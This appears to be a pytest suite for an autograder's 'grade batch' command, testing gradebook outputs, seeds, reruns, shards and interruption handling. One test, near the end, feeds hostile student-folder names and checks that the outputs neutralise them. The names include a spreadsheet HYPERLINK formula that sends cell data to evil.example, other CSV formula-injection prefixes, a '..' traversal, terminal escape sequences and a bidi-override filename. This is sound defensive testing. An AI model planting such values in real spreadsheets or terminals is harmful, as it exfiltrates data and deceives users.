"""`grade batch`: a class of a few students graded into a folder, through CliRunner and the
installed `grade`: layouts, outputs, seeds, reruns, interruptions, shards and untrusted ids."""

import csv
import json
import os
import re
import signal
import stat
import subprocess
import sys
import time
from dataclasses import replace
from pathlib import Path

import pytest
from click.testing import CliRunner
from conftest import SUBMISSIONS, leftover_processes

from autograder.batch.shards import Shard
from autograder.cli import main
from autograder.results import GRADE_RUN_SCHEMA

GRADE = Path(sys.executable).parent / "grade"
CORRECT = SUBMISSIONS / "exercise1" / "correct" / "vectorised.py"
LOG10 = SUBMISSIONS / "exercise1" / "mistakes" / "log10.py"
CORRECT_2 = SUBMISSIONS / "exercise2" / "correct" / "loops_with_math_exp.py"
SLOW_IMPORT = "import time\ntime.sleep(5)  # a student still being graded when the batch is stopped\n"
ENGLISH = {"GRADE_LANG": "en"}


@pytest.fixture
def runner():
    return CliRunner()


def notebook(source: str) -> str:
    cell = {"cell_type": "code", "metadata": {}, "outputs": [], "execution_count": None, "source": source}
    return json.dumps({"cells": [cell], "metadata": {}, "nbformat": 4, "nbformat_minor": 5})


def make_class(root: Path, students: dict[str, dict[str, str]]) -> Path:
    """``root`` holding a folder per student, each with its files (relative name → text)."""
    for student, files in students.items():
        for name, text in files.items():
            path = root / student / name
            path.parent.mkdir(parents=True, exist_ok=True)
            path.write_text(text, encoding="utf-8")
    return root


def batch(runner, submissions: Path, out: Path, *options: str):
    secret = out.parent / "secret"
    arguments = ["batch", str(submissions), "-o", str(out), "--secret-file", str(secret), *options]
    return runner.invoke(main, arguments, prog_name="grade", env=ENGLISH)


def rows(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8", newline="") as handle:
        return list(csv.reader(handle))


def runs(out: Path) -> dict:
    """Each student's GradeRun of OUT/gradebook.json, its execution time set aside."""
    book = json.loads((out / "gradebook.json").read_text(encoding="utf-8"))
    return {
        s["student"]: replace(GRADE_RUN_SCHEMA.load(s["run"]), execution_time=0.0) for s in book["students"]
    }


def test_a_class_of_py_files_and_notebooks_with_a_missing_and_an_unreadable_file(runner, tmp_path):
    submissions = make_class(
        tmp_path / "submissions",
        {
            "alice": {
                "exercise1.py": CORRECT.read_text(),
                "exercise2.ipynb": notebook(CORRECT_2.read_text()),
            },
            "bob": {"exercise1.ipynb": notebook(LOG10.read_text())},
            "carol": {"exercise2.py": CORRECT_2.read_text()},
        },
    )
    (submissions / "carol" / "exercise1.py").symlink_to(CORRECT)
    out = tmp_path / "out"

    result = batch(runner, submissions, out, "--exercises", "1,2")

    assert result.exit_code == 0, result.output
    assert rows(out / "gradebook.csv") == [
        ["student", "exercise1", "exercise2", "total", "maximum"],
        ["alice", "10", "10", "20", "20"],
        ["bob", "2", "0", "2", "20"],
        ["carol", "0", "10", "10", "20"],
    ]
    assert rows(out / "mistakes.csv") == [
        ["exercise", "mistake", "students", "who"],
        ["exercise1", "log10", "1", "bob"],
    ]
    bob = (out / "students" / "bob" / "report.txt").read_text(encoding="utf-8")
    assert (
        "No file was handed in for exercise2 (looked for exercise2.py, exercise2.ipynb, exercise2/exercise2.ipynb)."
        in bob
    )
    assert "[log10]" in bob and "\x1b" not in bob
    assert "is a symbolic link" in (out / "students" / "carol" / "report.txt").read_text(encoding="utf-8")
    gradescope = json.loads((out / "students" / "alice" / "results.json").read_text(encoding="utf-8"))
    assert gradescope["score"] == 20 and {t["extra_data"]["exercise"] for t in gradescope["tests"]} == {
        "exercise1",
        "exercise2",
    }
    students = runs(out)
    assert [r.score for r in students.values()] == [20, 2, 10]
    assert len({r.seed for r in students.values()}) == 3  # a seed of each student's own
    assert gradescope["extra_data"]["seed"] == students["alice"].seed
    assert "3 students: 3 graded, 0 skipped" in result.stdout
    assert "class mean: exercise1 4.0/10 · exercise2 6.7/10" in result.stdout
    assert "failed to load (missing, unreadable or not importable): 2" in result.stdout


def test_reports_are_in_the_course_language(runner, tmp_path):
    submissions = make_class(tmp_path / "submissions", {"alice": {"exercise1.py": LOG10.read_text()}})
    result = batch(runner, submissions, tmp_path / "out", "--lang", "zh")
    assert result.exit_code == 0, result.output
    assert "共 1 名学生：评分 1 名" in result.stdout
    report = (tmp_path / "out" / "students" / "alice" / "report.txt").read_text(encoding="utf-8")
    assert "没有提交 exercise2 的文件" in report and "exercise1：2/10 分" in report


def test_nbgrader_course_folder_and_its_submitted_folder(runner, tmp_path):
    course = tmp_path / "course"
    (course / "source").mkdir(parents=True)
    make_class(
        course / "submitted",
        {
            "alice": {"exercise1/exercise1.ipynb": notebook(CORRECT.read_text())},
            "bob": {"exercise1/exercise1.ipynb": notebook(LOG10.read_text())},
        },
    )
    for given, out in (
        (course, tmp_path / "from-course"),
        (course / "submitted", tmp_path / "from-submitted"),
    ):
        result = batch(runner, given, out, "--exercises", "1")
        assert result.exit_code == 0, result.output
    expected = [
        ["student", "exercise1", "total", "maximum"],
        ["alice", "10", "10", "10"],
        ["bob", "2", "2", "10"],
    ]
    assert rows(tmp_path / "from-course" / "gradebook.csv") == expected
    assert rows(tmp_path / "from-submitted" / "gradebook.csv") == expected


@pytest.mark.parametrize("lang", ["en", "zh"])
@pytest.mark.parametrize("given", ["empty", "missing", "a file", "one student's folder"])
def test_a_folder_without_a_class_is_exit_2_naming_the_layouts(runner, tmp_path, given, lang):
    submissions = {
        "empty": tmp_path / "empty",
        "missing": tmp_path / "missing",
        "a file": tmp_path / "exercise1.py",
        "one student's folder": tmp_path / "alice",
    }[given]
    (tmp_path / "empty").mkdir()
    (tmp_path / "exercise1.py").write_text(CORRECT.read_text())
    make_class(tmp_path, {"alice": {"exercise1.py": CORRECT.read_text()}})
    result = batch(runner, submissions, tmp_path / "out", "--lang", lang)
    assert result.exit_code == 2
    layouts = {"en": "Expected one folder per student", "zh": "应当是每个学生一个文件夹"}[lang]
    assert layouts in result.stderr and "nbgrader" in result.stderr
    assert not (tmp_path / "out").exists()


def test_an_output_folder_that_cannot_be_made_is_exit_2_before_grading(runner, tmp_path):
    submissions = make_class(tmp_path / "submissions", {"alice": {"exercise1.py": CORRECT.read_text()}})
    (tmp_path / "a-file").write_text("")
    out = tmp_path / "a-file" / "out"
    arguments = ["batch", str(submissions), "-o", str(out), "--secret-file", str(tmp_path / "secret")]
    result = runner.invoke(main, arguments, prog_name="grade", env=ENGLISH)
    assert result.exit_code == 2
    assert f"Error: Cannot use {out}: Not a directory." in result.stderr
    assert "grading" not in result.stderr


@pytest.mark.parametrize(
    ("arguments", "zh"),
    [
        (["batch"], "教师用：为整个班级评分"),
        (["batch", "--help"], "把各分片的输出合并成一个成绩册"),
        (["batch", "submissions", "--help"], "学生随机种子所依据的课程密钥"),
        (["batch", "merge", "--help"], "每个学生一次"),
    ],
)
def test_batch_speaks_chinese(runner, arguments, zh):
    result = runner.invoke(main, ["--lang", "zh", *arguments], prog_name="grade", env=ENGLISH)
    assert zh in result.output
    assert not re.search(r"\b(Usage|Error|Try|Options|Commands|Invalid|Missing|Show this)\b", result.output)


def test_seeds_come_from_the_course_secret_made_on_first_use(runner, tmp_path, monkeypatch):
    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "config"))
    submissions = make_class(
        tmp_path / "submissions", {name: {"exercise1.py": LOG10.read_text()} for name in ("alice", "bob")}
    )
    arguments = ["batch", str(submissions), "-o", str(tmp_path / "out"), "--lang", "en"]
    first = runner.invoke(main, arguments, prog_name="grade")
    secret = tmp_path / "config" / "cross-entropy-grader" / "course-secret"
    assert f"Created the course secret {secret}" in first.stderr
    assert stat.S_IMODE(secret.stat().st_mode) == 0o600
    seeds = {name: run.seed for name, run in runs(tmp_path / "out").items()}
    assert seeds["alice"] != seeds["bob"]

    again = runner.invoke(main, arguments, prog_name="grade")
    assert "Created" not in again.stderr and "2 graded, 0 skipped" not in again.stdout
    assert "0 graded, 2 skipped" in again.stdout
    assert {name: run.seed for name, run in runs(tmp_path / "out").items()} == seeds

    elsewhere = runner.invoke(main, [*arguments[:3], str(tmp_path / "other-secret-out"), "--lang", "en"])
    assert elsewhere.exit_code == 0  # the same secret in another output folder: the same seeds
    assert {name: run.seed for name, run in runs(tmp_path / "other-secret-out").items()} == seeds


def test_student_option_reproduces_their_batch_grading(runner, tmp_path, monkeypatch):
    submissions = make_class(tmp_path / "submissions", {"alice": {"exercise1.py": LOG10.read_text()}})
    assert batch(runner, submissions, tmp_path / "out", "--exercises", "1").exit_code == 0
    monkeypatch.chdir(submissions / "alice")
    secret = ["--secret-file", str(tmp_path / "secret")]
    alone = runner.invoke(
        main, ["1", "--student", "alice", *secret, "-s", "exercise1.py", "--format", "model"]
    )
    assert alone.exit_code == 1
    assert (
        replace(GRADE_RUN_SCHEMA.loads(alone.stdout), execution_time=0.0) == runs(tmp_path / "out")["alice"]
    )
    other = runner.invoke(main, ["1", "--student", "bob", *secret, "-s", "exercise1.py", "--format", "model"])
    assert GRADE_RUN_SCHEMA.loads(other.stdout).seed != runs(tmp_path / "out")["alice"].seed


@pytest.mark.parametrize("lang, says", [("en", "leave out --seed"), ("zh", "请不要同时使用 --seed")])
def test_student_and_seed_together_are_a_usage_error(runner, tmp_path, lang, says):
    arguments = [
        "1",
        "--student",
        "alice",
        "--seed",
        "3",
        "--secret-file",
        str(tmp_path / "s"),
        "--lang",
        lang,
    ]
    result = runner.invoke(main, arguments, prog_name="grade")
    assert result.exit_code == 2 and says in result.stderr
    assert not (tmp_path / "s").exists()


def test_a_rerun_grades_only_what_changed(runner, tmp_path):
    submissions = make_class(
        tmp_path / "submissions", {name: {"exercise1.py": LOG10.read_text()} for name in ("alice", "bob")}
    )
    out = tmp_path / "out"
    assert batch(runner, submissions, out, "--exercises", "1").exit_code == 0
    before = (out / "students" / "alice" / "record.json").read_bytes()
    (submissions / "bob" / "exercise1.py").write_text(CORRECT.read_text())
    result = batch(runner, submissions, out, "--exercises", "1")
    assert "2 students: 1 graded, 1 skipped" in result.stdout
    assert (out / "students" / "alice" / "record.json").read_bytes() == before
    assert rows(out / "gradebook.csv")[1:] == [["alice", "2", "2", "10"], ["bob", "10", "10", "10"]]
    assert "2 graded" in batch(runner, submissions, out, "--exercises", "1", "--timeout", "2").stdout


def test_shards_merged_equal_the_whole_class(runner, tmp_path):
    names = ["ann", "ben", "cai", "dev", "eve"]
    texts = [CORRECT.read_text(), LOG10.read_text()]
    submissions = make_class(
        tmp_path / "submissions", {n: {"exercise1.py": texts[i % 2]} for i, n in enumerate(names)}
    )
    assert batch(runner, submissions, tmp_path / "whole", "--exercises", "1").exit_code == 0
    shards = [tmp_path / f"shard{k}" for k in (1, 2)]
    for k, shard in enumerate(shards, 1):
        assert batch(runner, submissions, shard, "--exercises", "1", "--shard", f"{k}/2").exit_code == 0
    in_shards = [set(runs(shard)) for shard in shards]
    assert in_shards[0] and in_shards[1] and not in_shards[0] & in_shards[1]

    merged = runner.invoke(main, ["batch", "merge", str(tmp_path / "merged"), *map(str, shards)], env=ENGLISH)

    assert merged.exit_code == 0, merged.output
    assert "5 students from 2 shards" in merged.stdout
    for name in ("gradebook.csv", "mistakes.csv"):
        assert (tmp_path / "merged" / name).read_text() == (tmp_path / "whole" / name).read_text()
    assert runs(tmp_path / "merged") == runs(tmp_path / "whole")
    for student in names:
        assert (tmp_path / "merged" / "students" / student / "results.json").is_file()


def test_shards_split_a_class_by_the_ids_alone():
    """Each student in exactly one shard, about an Nth in each; a student's shard depends on
    nothing but their id, so one who joins late moves no one else."""
    ids = [f"student{n}" for n in range(400)]
    shards = [Shard(k, 4) for k in (1, 2, 3, 4)]
    assert all(sum(s.holds(i) for s in shards) == 1 for i in ids)
    assert all(60 < sum(map(s.holds, ids)) < 140 for s in shards)


@pytest.mark.parametrize("lang", ["en", "zh"])
def test_a_student_in_two_shards_or_an_interrupted_shard_is_exit_2(runner, tmp_path, lang):
    submissions = make_class(tmp_path / "submissions", {"alice": {"exercise1.py": LOG10.read_text()}})
    assert batch(runner, submissions, tmp_path / "shard", "--exercises", "1").exit_code == 0
    twice = runner.invoke(
        main, ["batch", "merge", str(tmp_path / "m"), *[str(tmp_path / "shard")] * 2, "--lang", lang]
    )
    assert twice.exit_code == 2
    assert {"en": "Student alice is in two shards", "zh": "学生 alice 同时出现在两个分片中"}[
        lang
    ] in twice.stderr
    book = json.loads((tmp_path / "shard" / "gradebook.json").read_text())
    (tmp_path / "shard" / "gradebook.json").write_text(json.dumps({**book, "complete": False}))
    interrupted = runner.invoke(
        main, ["batch", "merge", str(tmp_path / "m"), str(tmp_path / "shard"), "--lang", lang]
    )
    assert interrupted.exit_code == 2 and "grade batch" in interrupted.stderr
    assert not (tmp_path / "m").exists()


BAD_IDS = [
    '=HYPERLINK("evil.example?"&A1,"click")',
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "..",
    ".hidden-is-no-student",
    "\x1b]0;owned\x07\x1b[2J",
    "bidi\u202eexe.txt",
    "line\nbreak",
    "张三",
    "x" * 200,
]


def test_student_ids_from_folder_names_are_inert_everywhere(runner, tmp_path):
    submissions = tmp_path / "submissions"
    for name in BAD_IDS:
        if name != "..":
            make_class(submissions, {name: {"exercise1.py": LOG10.read_text()}})
    make_class(submissions, {"plain": {"exercise1.py": LOG10.read_text()}})
    out = tmp_path / "out"

    result = batch(runner, submissions, out, "--exercises", "1")

    assert result.exit_code == 0, result.output
    assert sorted(p.name for p in tmp_path.iterdir()) == ["out", "secret", "submissions"]
    assert sorted(p.name for p in out.iterdir()) == [
        "gradebook.csv",
        "gradebook.json",
        "mistakes.csv",
        "students",
    ]
    folders = list((out / "students").iterdir())
    assert len(folders) == len(BAD_IDS) - 1  # .. is no folder; .hidden is skipped; plain joins
    assert all(p.is_dir() and not p.name.startswith(".") and len(p.name) < 100 for p in folders)
    assert (out / "students" / "张三").is_dir() and (out / "students" / "plain").is_dir()
    table = rows(out / "gradebook.csv")
    shown = {row[0] for row in table[1:]}
    assert '\'=HYPERLINK("evil.example?"&A1,"click")' in shown
    assert {"'+1+1", "'-2+3", "'@SUM(A1)", "张三", "line\\nbreak", "bidi\\u202eexe.txt"} <= shown
    assert all(
        not cell.startswith(("=", "+", "-", "@")) for row in rows(out / "mistakes.csv") for cell in row
    )
    every_text = [result.stdout, result.stderr] + [p.read_text() for p in out.rglob("*") if p.is_file()]
    assert not any(ch in text for text in every_text for ch in "\x1b\x07\u202e")


def installed_batch(submissions: Path, out: Path) -> list[str]:
    """The installed `grade batch` on exercise 1, the class's secret beside OUT."""
    secret = str(out.parent / "secret")
    return [
        str(GRADE),
        "batch",
        str(submissions),
        "-o",
        str(out),
        "--exercises",
        "1",
        "--secret-file",
        secret,
    ]


def start_batch(submissions: Path, out: Path) -> subprocess.Popen:
    command = installed_batch(submissions, out)
    return subprocess.Popen(command, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, env=_env())


def _env() -> dict[str, str]:
    return {"PATH": os.environ["PATH"], "GRADE_LANG": "en"}


def wait_for_a_student(out: Path, process: subprocess.Popen) -> set[str]:
    """The students whose results exist, once there is one (the batch still running)."""
    for _ in range(6000):
        done = {p.parent.name for p in (out / "students").glob("*/record.json")}
        if done:
            return done
        assert process.poll() is None, process.communicate()
        time.sleep(0.02)
    raise AssertionError("no student's results after two minutes")


def slow_class(root: Path) -> Path:
    """Three students graded at once, and one whose file takes seconds to import: a batch
    stopped when the first student's results appear has that one still to grade."""
    texts = {"ann": CORRECT.read_text(), "ben": LOG10.read_text(), "cai": CORRECT.read_text()}
    texts["zed"] = SLOW_IMPORT + CORRECT.read_text()
    return make_class(root, {name: {"exercise1.py": text} for name, text in texts.items()})


def test_a_killed_batch_resumes_where_it_stopped(tmp_path):
    submissions = slow_class(tmp_path / "submissions")
    out = tmp_path / "out"
    process = start_batch(submissions, out)
    wait_for_a_student(out, process)
    process.kill()
    process.communicate()
    leftover_processes()  # what the killed grader left running
    done = {p.parent.name for p in (out / "students").glob("*/record.json")}
    assert "zed" not in done
    records = {name: (out / "students" / name / "record.json").read_bytes() for name in done}

    rerun = subprocess.run(installed_batch(submissions, out), capture_output=True, text=True, env=_env())

    assert rerun.returncode == 0, rerun.stderr
    assert f"4 students: {4 - len(done)} graded, {len(done)} skipped" in rerun.stdout
    assert f"{4 - len(done)}/{4 - len(done)}" in rerun.stderr and "students/s" in rerun.stderr  # the bar
    assert all((out / "students" / name / "record.json").read_bytes() == records[name] for name in done)
    whole = subprocess.run(installed_batch(submissions, tmp_path / "whole"), capture_output=True, env=_env())
    assert whole.returncode == 0
    assert (out / "gradebook.csv").read_text() == (tmp_path / "whole" / "gradebook.csv").read_text()
    assert runs(out) == runs(tmp_path / "whole") and len(runs(out)) == 4


def test_ctrl_c_writes_the_gradebook_of_the_students_done_and_exits_130(tmp_path):
    submissions = slow_class(tmp_path / "submissions")
    out = tmp_path / "out"
    process = start_batch(submissions, out)
    wait_for_a_student(out, process)
    process.send_signal(signal.SIGINT)
    stdout, stderr = process.communicate()

    assert process.returncode == 130, stderr
    assert "Interrupted: the students done are in the gradebook" in stderr
    assert "zed" not in (done := {p.parent.name for p in (out / "students").glob("*/record.json")})
    assert [row[0] for row in rows(out / "gradebook.csv")[1:]] == sorted(done)
    assert json.loads((out / "gradebook.json").read_text())["complete"] is False
    assert f"4 students: {len(done)} done" in stdout and "not graded" in stdout
    assert leftover_processes() == []
